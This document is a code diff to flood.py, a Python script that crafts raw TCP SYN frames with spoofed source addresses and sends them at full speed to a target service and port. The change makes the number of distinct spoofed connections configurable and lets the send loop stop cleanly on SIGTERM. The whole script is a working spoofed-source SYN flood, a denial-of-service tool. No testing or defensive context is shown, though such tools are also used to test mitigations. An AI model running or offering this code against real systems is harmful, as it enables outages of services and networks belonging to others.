@@ -2,7 +2,9 @@
 # SPDX-License-Identifier: GPL-2.0-only
 """Sends TCP SYNs from spoofed sources, as fast as it can, until it is ended; then prints how many.
 
-    flood.py INTERFACE GATEWAY-MAC FIRST-SOURCE SOURCES SERVICE PORT
+    flood.py INTERFACE GATEWAY-MAC FIRST-SOURCE SOURCES SERVICE PORT [CONNECTIONS]
+
+CONNECTIONS is how many different ones there are, over and over: 4096 unless given.
 """
 
 import ipaddress
@@ -11,8 +13,6 @@ import signal
 import socket
 import struct
 import sys
-
-FRAMES = 4096
 
 
 def checksum(data):
@@ -30,19 +30,21 @@ def syn(chance, macs, source, service, port):
     return macs + b"\x08\x00" + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp + bytes(6)
 
 
-def main(interface, gateway, first, sources, service, port):
+def main(interface, gateway, first, sources, service, port, connections="4096"):
     wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     wire.bind((interface, 0))
     chance = random.Random(1)
     macs = bytes.fromhex(gateway.replace(":", "")) + wire.getsockname()[4]
     first = int(ipaddress.IPv4Address(first))
     frames = [syn(chance, macs, (first + chance.randrange(int(sources))).to_bytes(4, "big"),
-                  ipaddress.IPv4Address(service).packed, int(port)) for _ in range(FRAMES)]
+                  ipaddress.IPv4Address(service).packed, int(port)) for _ in range(int(connections))]
     sent = 0
     ended = []
     signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
     while not ended:
         for frame in frames:
+            if ended:
+                break
             try:
                 sent += wire.send(frame) > 0
             except OSError:  # the queue is full
